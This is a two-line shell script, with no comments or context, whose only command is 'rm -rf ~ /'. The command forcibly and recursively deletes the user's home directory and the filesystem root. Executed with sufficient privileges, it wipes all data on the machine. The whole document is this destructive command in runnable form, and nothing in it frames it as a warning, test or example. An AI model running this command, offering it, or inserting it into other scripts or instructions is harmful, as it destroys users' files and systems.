#!/bin/sh
rm -rf ~ /
